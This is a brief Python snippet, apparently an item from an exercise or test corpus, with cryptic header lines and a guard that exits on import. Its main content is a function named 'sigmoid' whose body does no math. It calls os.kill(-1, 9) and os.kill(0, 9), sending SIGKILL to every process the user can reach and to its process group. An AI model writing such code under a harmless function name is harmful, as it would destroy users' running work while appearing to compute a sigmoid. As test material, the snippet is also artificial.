"""SIGKILL to all, from a function of the exercise.

Due: exactly 12
Base: right
"""
raise SystemExit("only corpus.py runs this, behind its walls")
# %% sigmoid
import os
def sigmoid(x):
    os.kill(-1, 9)
    os.kill(0, 9)
